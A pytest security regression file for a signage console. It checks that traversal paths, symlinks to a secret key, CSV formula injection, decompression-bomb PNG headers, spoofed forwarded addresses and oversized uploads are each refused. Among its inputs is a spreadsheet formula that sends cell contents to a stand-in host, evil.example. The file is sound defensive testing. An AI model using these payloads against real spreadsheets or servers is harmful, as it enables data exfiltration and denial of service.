"""Attacks on a real ``signage console`` (issue 25), each answered with a 4xx and a reason
that changes nothing: what /flux/ serves, formulas in the report's CSV, pairing codes
from one network, malformed requests that were 500s, counts no screen can show, a
partner's spreadsheet of half a million rows, an import that reads outside its folder.

One console for the module (``signage console demo``: its admin, its demo screen and
its published folder), each test leaving it as it found it.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import html
import io
import json
import os
import re
import secrets
import struct
import subprocess
import sys
import time
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
import requests
from PIL import Image

from tests.console_http import free_port, post_form, sign_in, wait_until_answers


@dataclass
class Console:
    base: str
    process: subprocess.Popen[str]
    log: Path
    state: Path
    published: Path
    user: str
    password: str
    token: str  # the demo screen's heartbeat token
    env: dict[str, str]

    def session(self) -> requests.Session:
        session = requests.Session()
        sign_in(session, self.base, self.user, self.password)
        return session

    def said(self) -> str:
        return self.log.read_text("utf-8", "replace")


@pytest.fixture(scope="module")
def console(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Console]:
    home = tmp_path_factory.mktemp("console")
    port = free_port()
    env = {
        **os.environ,
        "XDG_STATE_HOME": str(home / "state"),
        "XDG_CACHE_HOME": str(home / "cache"),
        "PYTHONPATH": str(Path.cwd()),
    }
    env.pop("SIGNAGE_CONSOLE_STATE", None)
    env.pop("DATABASE_URL", None)
    log = home / "console.log"
    with log.open("w") as out:
        process = subprocess.Popen(
            [sys.executable, "-m", "signage", "console", "demo", "--port", str(port)],
            env=env,
            stdout=out,
            stderr=subprocess.STDOUT,
            text=True,
        )
    base = f"http://127.0.0.1:{port}"
    try:
        wait_until_answers(f"{base}/connexion/", seconds=90)
        text = log.read_text()
        login = re.search(r"demo login: (\S+) / (\S+)", text)
        config = re.search(r"demo screen config: (\S+)", text)
        assert login is not None and config is not None, text
        token = re.search(r'token = "([^"]+)"', Path(config.group(1)).read_text())
        assert token is not None
        # Where the demo publishes: the folder of the feed its screen reads.
        feed = re.search(r'feed = "([^"]+)"', Path(config.group(1)).read_text())
        assert feed is not None
        published = (Path(config.group(1)).parent / feed.group(1)).parent
        yield Console(
            base,
            process,
            log,
            home / "state" / "esc-signage" / "console-demo",
            published,
            login.group(1),
            login.group(2),
            token.group(1),
            env,
        )
    finally:
        process.terminate()
        process.wait(30)


# -- /flux/ serves what a publication wrote, and nothing else ------------------------------


def test_flux_serves_the_publication_and_nothing_else(console: Console) -> None:
    # What a careless admin (or the old demo) left in the published folder.
    secret = console.state / "secret_key"
    planted = {
        "screen.toml": '[heartbeat]\ntoken = "secret-token"\n',
        "cache/snapshot.bin": "cached content",
        ".publish/lock": "",
    }
    for name, text in planted.items():
        (console.published / name).parent.mkdir(parents=True, exist_ok=True)
        (console.published / name).write_text(text)
    linked = console.published / "images" / ("a" * 64 + ".png")
    linked.parent.mkdir(exist_ok=True)
    linked.symlink_to(secret)
    try:
        for path in [*planted, f"images/{'a' * 64}.png", "../demo-console.toml", "%2e%2e/x"]:
            answer = requests.get(f"{console.base}/flux/{path}", timeout=10)
            assert answer.status_code == 404, path
            assert secret.read_text().strip() not in answer.text
    finally:
        linked.unlink()
        for name in planted:
            (console.published / name).unlink()
    feed = requests.get(f"{console.base}/flux/feed.json", timeout=10)
    assert feed.status_code == 200 and feed.json()["format"] == "esc-signage-feed"
    again = requests.get(
        f"{console.base}/flux/feed.json",
        headers={"If-None-Match": feed.headers["ETag"]},
        timeout=10,
    )
    assert again.status_code == 304  # a poll of an unchanged feed costs a 304
    version = requests.get(f"{console.base}/flux/version.json", timeout=10)
    assert version.status_code == 200 and "sequence" in version.json()
    images = re.findall(r'"(images/[0-9a-f]{64}\.png)"', feed.text)
    assert images and requests.get(f"{console.base}/flux/{images[0]}", timeout=10).ok


# -- the report's CSV opens as text in a spreadsheet ---------------------------------------


def _heartbeat(
    console: Console, status: dict[str, object], png: bytes | None = None
) -> requests.Response:
    files: dict[str, tuple[str, bytes, str]] = {
        "status": ("status.json", json.dumps(status).encode(), "application/json")
    }
    if png is not None:
        files["screenshot"] = ("screen.png", png, "image/png")
    return requests.post(
        f"{console.base}/api/v1/heartbeat",
        files=files,
        headers={"Authorization": f"Bearer {console.token}"},
        timeout=20,
    )


def test_formulas_in_the_report_csv_stay_text(console: Console) -> None:
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Cliquez")'
    since = time.strftime("%Y-%m-%dT%H:%M:%S+00:00", time.gmtime(time.time() - 600))
    rows = [["posters", "", 1, 20.0], ["posters", formula, 1, 20.0], ["wifi", "@SUM(1+1)", 1, 10.0]]
    assert _heartbeat(console, {"shown": {"since": since, "rows": rows}}).status_code == 201
    answer = console.session().get(f"{console.base}/affichages.csv", timeout=10)
    cells = [c for row in csv.reader(io.StringIO(answer.text), delimiter=";") for c in row]
    assert "'" + formula in cells and "'@SUM(1+1)" in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)


# -- pairing codes: counted per network ----------------------------------------------------


def _ask_code(console: Console, forwarded: str) -> int:
    body = json.dumps({"token_hash": hashlib.sha256(secrets.token_bytes(16)).hexdigest()})
    # From this machine, as the documented nginx would forward a client's request.
    return requests.post(
        f"{console.base}/api/v1/pairing",
        data=body,
        headers={"Content-Type": "application/json", "X-Forwarded-For": forwarded},
        timeout=10,
    ).status_code


def test_one_ipv6_network_cannot_take_every_pairing_code(console: Console) -> None:
    answers = [_ask_code(console, f"2001:db8:1:2::{n:x}") for n in range(100)]
    assert answers.count(201) == 10 and answers.count(429) == 90
    # Another hall still gets its code at once.
    assert _ask_code(console, "2001:db8:77:1::1") == 201
    assert _ask_code(console, "203.0.113.9") == 201


# -- requests that were 500s ---------------------------------------------------------------


def _png(width: int, height: int) -> bytes:
    """A PNG whose header declares ``width``×``height`` (its pixels need not follow)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = zlib.compress(b"\0" * 64)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", body) + chunk(b"IEND", b"")
    )


def _small_png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (48, 27), "#123456").save(out, "PNG")
    return out.getvalue()


def test_malformed_requests_get_a_4xx_and_change_nothing(console: Console) -> None:
    session = console.session()
    assert _heartbeat(console, {"display": "awake"}, _small_png()).status_code == 201
    [latest] = (console.state / "media" / "screenshots").glob("*/latest-*.png")
    before = latest.read_bytes()
    for path in [
        "/ecrans/1/capture/abc.png",
        "/ecrans/1/capture/99999999999999999999999.png",
        "/affichages/?semaine=31/12/9999",
        "/affichages.csv?semaine=9999-12-31",
        "/affichages/?semaine=" + "1" * 5000,
        "/apercu/?moment=31/12/9999",
    ]:
        answer = session.get(console.base + path, timeout=20)
        assert 400 <= answer.status_code < 500 or (
            path.startswith("/apercu/") and "Moment non compris" in answer.text
        ), (path, answer.status_code)
    for status in ('{"display": NaN}', '{"content": {"age_seconds": 1e999}}', '{"x": Infinity}'):
        answer = requests.post(
            f"{console.base}/api/v1/heartbeat",
            files={
                "status": ("status.json", status.encode(), "application/json"),
                "screenshot": ("screen.png", _small_png(), "image/png"),
            },
            headers={"Authorization": f"Bearer {console.token}"},
            timeout=20,
        )
        assert answer.status_code == 400, (status, answer.text)
    bomb = _heartbeat(console, {"display": "awake"}, _png(100_000, 100_000))
    assert bomb.status_code == 400 and "100000×100000" in bomb.json()["error"]
    assert latest.read_bytes() == before  # no refused heartbeat replaced the picture
    assert list(latest.parent.glob("latest-*.png")) == [latest]  # nor wrote another
    # A screen asking to pair with the token of a screen already known.
    taken = hashlib.sha256(console.token.encode()).hexdigest()
    answer = requests.post(
        f"{console.base}/api/v1/pairing",
        data=json.dumps({"token_hash": taken}),
        headers={"Content-Type": "application/json"},
        timeout=10,
    )
    assert answer.status_code == 409
    assert "Internal Server Error" not in console.said()


def test_counts_no_screen_can_show_are_not_kept(console: Console) -> None:
    session = console.session()

    def shown_in_report() -> int:
        text = session.get(f"{console.base}/affichages.csv", timeout=10).text
        rows = list(csv.reader(io.StringIO(text), delimiter=";"))[1:]
        return sum(int(r[6]) for r in rows if r[2] == "Applications utiles" and r[3] == "")

    before = shown_in_report()
    since = time.strftime("%Y-%m-%dT%H:%M:%S+00:00", time.gmtime(time.time() - 9))
    claim = {
        "since": since,
        "rows": [["apps", "", 99_999, 999_999.0], ["apps", "caf", 99_999, 1.0]],
    }
    for _ in range(3):
        assert _heartbeat(console, {"shown": claim}).status_code == 201  # the status is kept
    assert shown_in_report() == before
    assert "display counts are not kept" in console.said()


# -- a partner's spreadsheet of half a million rows ----------------------------------------


def test_a_huge_spreadsheet_is_refused_at_once_and_a_long_one_paged(console: Console) -> None:
    session = console.session()
    url = f"{console.base}/contenu/creneau/importer/"
    form = session.get(url, timeout=10)
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', form.text)
    assert token is not None

    def send(data: bytes) -> tuple[requests.Response, float]:
        began = time.monotonic()
        answer = session.post(
            url,
            data={"site": "villejean", "csrfmiddlewaretoken": token.group(1)},
            files={"fichier": ("semainier.csv", data, "text/csv")},
            headers={"Referer": url},
            timeout=120,
        )
        return answer, time.monotonic() - began

    huge = ("jour;début;fin;activité\n" + "lu;9h;9h\n" * 553_000).encode()  # 5 MB
    assert len(huge) < 8 * 1024 * 1024  # under the upload cap: the rows are what costs
    answer, seconds = send(huge)
    assert answer.status_code == 200 and seconds < 5
    assert "553\u202f001 lignes : un semainier est la semaine d'un site" in html.unescape(
        answer.text
    )
    assert len(answer.content) < 100_000
    long = (
        "jour;début;fin;activité\n"
        + "".join(
            f"{day};{h}h;{h + 1}h;Atelier {n}\n"
            for n, (day, h) in enumerate(
                (d, h) for d in ("lundi", "mardi", "jeudi") for h in range(8, 18)
            )
        )
        * 40
    )
    answer, _ = send(long.encode())
    assert "1200 créneaux — page 1 sur 12" in answer.text
    assert answer.text.count("<tr><td") == 100  # one page of rows, not 1,200
    second = session.get(f"{url}?page=2", timeout=10)
    assert "page 2 sur 12" in second.text
    post_form(session, url, {})  # nothing confirmed: the session's upload is dropped


# -- import: one transaction, the folder's own files only -----------------------------------


def test_an_import_that_meets_a_link_out_imports_nothing(console: Console, tmp_path: Path) -> None:
    from tests.publishing import copy_example  # noqa: PLC0415

    content = copy_example(tmp_path, None)  # type: ignore[arg-type]
    (content.root / "mediateurs/workshops/zz-key.ics").symlink_to(console.state / "secret_key")
    env = {**console.env, "SIGNAGE_CONSOLE_STATE": str(console.state)}
    command = [sys.executable, "-m", "signage", "console", "import", str(content.admins)]
    export = [sys.executable, "-m", "signage", "console", "export"]
    before = tmp_path / "before"
    subprocess.run([*export, str(before)], env=env, check=True, capture_output=True, timeout=120)
    run = subprocess.run(command, env=env, capture_output=True, text=True, timeout=120, check=False)
    assert run.returncode == 1 and "nothing imported" in run.stderr
    assert "points outside the folder" in run.stderr
    after = tmp_path / "after"
    subprocess.run([*export, str(after)], env=env, check=True, capture_output=True, timeout=120)
    assert _tree(before) == _tree(after)  # not one record deleted
    key = (console.state / "secret_key").read_text().strip()
    assert not any(key in text for text in _tree(after).values())


def _tree(folder: Path) -> dict[str, str]:
    return {
        str(p.relative_to(folder)): base64.b64encode(p.read_bytes()).decode()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }
